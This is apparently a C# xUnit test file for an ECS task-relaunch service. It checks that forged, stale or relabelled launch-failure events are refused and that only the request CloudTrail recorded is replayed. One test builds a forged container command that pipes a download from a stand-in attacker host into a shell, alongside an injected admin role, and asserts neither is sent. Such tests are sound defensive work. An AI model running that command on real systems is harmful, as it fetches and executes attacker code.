using System.Text.Json;
using System.Text.Json.Nodes;
using MassTransit.Testing;
using Platform.Contracts.History;
using Platform.Contracts.Retry;
using Platform.EcsSamples;
using Platform.Testing;
using Xunit;

namespace Platform.Retry.Tests.Features.RetryFailures;

/// <summary>
/// Launch failures that anyone holding the ingest key could post. Only what CloudTrail itself returns is replayed.
/// The records are the "AWS API Call via CloudTrail" shape of AWS's CloudTrail documentation (a RunTask with
/// <c>responseElements.failures[]</c>), built by the samples library; CloudTrail's answer is LookupEvents' as its API
/// reference gives it (Events[].CloudTrailEvent, the record as a string), from <see cref="FakeAws"/>.
/// </summary>
[Collection(RetryCollection.Name)]
public class ForgedLaunchFailureTests(PostgresFixture postgres) : RetryTestBase(postgres)
{
    protected override string Config => """
        clusters: [batch]
        monitors:
          - job: nightly-report
            retry:
              launch: { reasons: [AGENT, ThrottlingException], maxAttempts: 2, interval: 1s, backoffRate: 1 }
        """;

    private async Task<IReadOnlyList<RelaunchFailed>> RefusalsAsync(int count) =>
        (await Eventually.Get(() => Task.FromResult(App.Harness.Published.Select<RelaunchFailed>().ToList()), r => r.Count >= count,
            TimeSpan.FromSeconds(15), $"{count} refusal(s)")).Select(r => r.Context.Message).ToList();

    [Fact]
    public async Task A_tampered_request_is_never_sent_only_the_request_CloudTrail_recorded_is_replayed()
    {
        var (genuine, record) = RetryApp.LaunchFailure("nightly-report");
        Aws.AddRecord(record);
        // The event names the genuine record, but its request was replaced: another cluster's task definition, another
        // task role, and a command that runs what the attacker wants.
        var forged = JsonNode.Parse(genuine.RequestParameters.GetRawText())!.AsObject();
        forged["taskRoleArn"] = "arn:aws:iam::123456789012:role/admin";
        forged["overrides"]!["containerOverrides"]![0]!["command"] = new JsonArray("sh", "-c", "curl https://evil.example/x | sh");
        await App.Harness.Bus.Publish(genuine with { RequestParameters = JsonDocument.Parse(forged.ToJsonString()).RootElement.Clone() });

        var call = Assert.Single(await Eventually.Get(() => Task.FromResult(RunTasks), c => c.Count >= 1, TimeSpan.FromSeconds(15), "RunTask"));
        var expected = record["detail"]!["requestParameters"]!.DeepClone().AsObject();
        expected["startedBy"] = call.Body["startedBy"]!.DeepClone();
        expected["clientToken"] = call.Body["clientToken"]!.DeepClone();
        Assert.True(JsonNode.DeepEquals(expected, call.Body), "the relaunch must be CloudTrail's request, whole, and nothing else");
        Assert.DoesNotContain("evil.example", call.Body.ToJsonString());
        Assert.Null(call.Body["taskRoleArn"]);
        Assert.Contains(Aws.Calls, c => c.Target.EndsWith(".LookupEvents", StringComparison.Ordinal) && c.SignatureValid
            && c.Body["LookupAttributes"]![0]!["AttributeValue"]!.GetValue<string>() == genuine.CloudTrailEventId);
    }

    [Fact]
    public async Task Forged_and_stale_launch_failures_start_nothing_and_each_says_why()
    {
        var now = DateTimeOffset.UtcNow;
        // 1. A record CloudTrail never had (kept asking for the lookup window, then refused).
        var (unknown, _) = RetryApp.LaunchFailure("nightly-report");
        // 2. A genuine record of another job's launch, claimed as nightly-report's.
        var other = new EcsEventFactory().LaunchFailure("billing-export", now);
        Aws.AddRecord(other);
        var borrowed = RetryApp.FromRecord(other, "nightly-report", "AGENT", now) with
        {
            TaskDefinition = "arn:aws:ecs:eu-west-1:123456789012:task-definition/nightly-report:3",
        };
        // 3. A failure three years old, as an archive import or a late redelivery would bring it.
        var (ancient, ancientRecord) = RetryApp.LaunchFailure("nightly-report", time: now.AddYears(-3));
        Aws.AddRecord(ancientRecord);
        // 4. An event that claims to be recent, naming a record CloudTrail dates two hours back.
        var (backdated, backdatedRecord) = RetryApp.LaunchFailure("nightly-report", time: now.AddHours(-2));
        Aws.AddRecord(backdatedRecord);
        backdated = backdated with { Time = now };
        // 5. A genuine failure whose record says RESOURCE:MEMORY, posted as AGENT.
        var (relabelled, relabelledRecord) = RetryApp.LaunchFailure("nightly-report", reason: "RESOURCE:MEMORY");
        Aws.AddRecord(relabelledRecord);
        relabelled = relabelled with { Reason = "AGENT" };

        foreach (var failed in new[] { unknown, borrowed, ancient, backdated, relabelled })
            await App.Harness.Bus.Publish(failed);

        var refusals = await RefusalsAsync(5);
        await Task.Delay(1_000);
        Assert.Empty(RunTasks);
        Assert.Equal(5, App.Harness.Published.Select<RelaunchFailed>().Count());
        Assert.Contains(refusals, r => r.Error.Contains("CloudTrail has no record", StringComparison.Ordinal));
        Assert.Contains(refusals, r => r.Error.Contains("another task definition", StringComparison.Ordinal));
        Assert.Equal(2, refusals.Count(r => r.Error.Contains("maxAge", StringComparison.Ordinal)));
        Assert.Contains(refusals, r => r.Error.Contains("RESOURCE:MEMORY", StringComparison.Ordinal));
    }

    [Fact]
    public async Task Imported_failures_and_other_clusters_failures_are_neither_relaunched_nor_refused()
    {
        var (imported, record) = RetryApp.LaunchFailure("nightly-report");
        Aws.AddRecord(record);
        var (elsewhere, elsewhereRecord) = RetryApp.LaunchFailure("nightly-report");
        Aws.AddRecord(elsewhereRecord);
        await App.Harness.Bus.Publish(imported with { Replayed = true });
        await App.Harness.Bus.Publish(elsewhere with { Cluster = "prod" });
        // A genuine one last: once it is relaunched, the two before it were handled.
        var (genuine, genuineRecord) = RetryApp.LaunchFailure("nightly-report");
        Aws.AddRecord(genuineRecord);
        await App.Harness.Bus.Publish(genuine);

        await Eventually.Get(() => Task.FromResult(RunTasks), c => c.Count >= 1, TimeSpan.FromSeconds(15), "the genuine relaunch");
        await Task.Delay(1_000);
        Assert.Single(RunTasks);
        Assert.Single(App.Harness.Published.Select<RelaunchScheduled>());
        Assert.False(await App.Harness.Published.Any<RelaunchFailed>());
    }

    [Fact]
    public async Task A_RunTask_AWS_throttled_is_relaunched_with_its_request_and_one_it_denied_is_not()
    {
        var now = DateTimeOffset.UtcNow;
        var throttled = new EcsEventFactory().RefusedLaunch("nightly-report", now, "ThrottlingException", "Rate exceeded");
        var denied = new EcsEventFactory().RefusedLaunch("nightly-report", now, "AccessDenied", "not authorized to perform: iam:PassRole");
        Aws.AddRecord(throttled);
        Aws.AddRecord(denied);
        await App.Harness.Bus.Publish(RetryApp.FromRecord(throttled, "nightly-report", "ThrottlingException", now));
        await App.Harness.Bus.Publish(RetryApp.FromRecord(denied, "nightly-report", "AccessDenied", now));

        var call = Assert.Single(await Eventually.Get(() => Task.FromResult(RunTasks), c => c.Count >= 1, TimeSpan.FromSeconds(15), "RunTask"));
        await Task.Delay(1_000);
        Assert.Single(RunTasks);
        var expected = throttled["detail"]!["requestParameters"]!.DeepClone().AsObject();
        expected["startedBy"] = call.Body["startedBy"]!.DeepClone();
        expected["clientToken"] = call.Body["clientToken"]!.DeepClone();
        Assert.True(JsonNode.DeepEquals(expected, call.Body));
        Assert.Single(App.Harness.Published.Select<RelaunchScheduled>());
    }
}
